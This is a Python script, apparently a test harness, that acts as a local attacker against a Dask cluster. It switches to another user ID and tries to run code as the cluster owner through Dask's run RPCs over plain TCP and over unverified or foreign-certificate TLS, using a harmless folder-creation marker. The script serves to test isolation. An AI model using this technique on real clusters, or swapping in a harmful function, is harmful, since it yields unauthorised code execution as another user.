"""Somebody else who has found the ports of a cohort, and tries to run a program as its owner.

python cohort_attacker.py UID FOLDER ADDRESS=KIND …

For each address, without its "tcp://" or "tls://", and its kind (scheduler, worker or nanny) it
tries every way of `WAYS`: that a file NUMBER-WAY lies in the folder afterwards shows that the
program ran. It prints the user that it was.
"""

import asyncio
import os
import ssl
import sys

from distributed.core import rpc
from distributed.protocol.pickle import dumps
from distributed.security import Security

NOBODY_THERE = "127.0.0.1:1"

OPERATION = {"scheduler": "run_function", "worker": "run", "nanny": "run"}
"""By which Dask itself runs a function in each of its processes."""


class Runs:
    """Makes a folder when it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (self.path,)


def _no_certificate() -> ssl.SSLContext:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def _another_certificate() -> ssl.SSLContext:
    made = Security.temporary().get_connection_args("client")["ssl_context"]
    made.verify_mode = ssl.CERT_NONE  # the attacker trusts anybody
    return made


WAYS = {
    "plain": lambda: ("tcp", {}),
    "no certificate": lambda: ("tls", {"ssl_context": _no_certificate()}),
    "another certificate": lambda: ("tls", {"ssl_context": _another_certificate()}),
}


async def attack(address: str, kind: str, way: str, marker: str, seconds: float = 4.0) -> None:
    protocol, arguments = WAYS[way]()
    there = rpc(f"{protocol}://{address}", connection_args=arguments, timeout=seconds)
    try:
        await asyncio.wait_for(
            getattr(there, OPERATION[kind])(
                function=dumps(os.mkdir), args=dumps((marker,)), kwargs=dumps({}), wait=True
            ),
            timeout=seconds + 2.0,
        )
    except ImportError:
        raise  # an attacker that cannot attack would prove nothing
    except Exception as error:
        print(f"{kind} {way}: {type(error).__name__}: {str(error)[:100]}")
    finally:
        await there.close_rpc()


async def main() -> None:
    user, folder, *targets = sys.argv[1:]
    ways = {way: WAYS[way]() for way in WAYS}  # made before the user is another
    WAYS.update({way: (lambda made=made: made) for way, made in ways.items()})
    # Dask imports at its first connection, and another user may not be able to read its files.
    await asyncio.gather(*(attack(NOBODY_THERE, "worker", way, folder, 0.1) for way in WAYS))
    if int(user) != os.getuid():
        os.setgroups([])
        os.setgid(int(user))
        os.setuid(int(user))
    print("user", os.getuid())
    tried = []
    for number, target in enumerate(targets):
        address, _, kind = target.partition("=")
        tried += [attack(address, kind, way, f"{folder}/{number}-{way}") for way in WAYS]
    await asyncio.gather(*tried)


if __name__ == "__main__":
    asyncio.run(main())
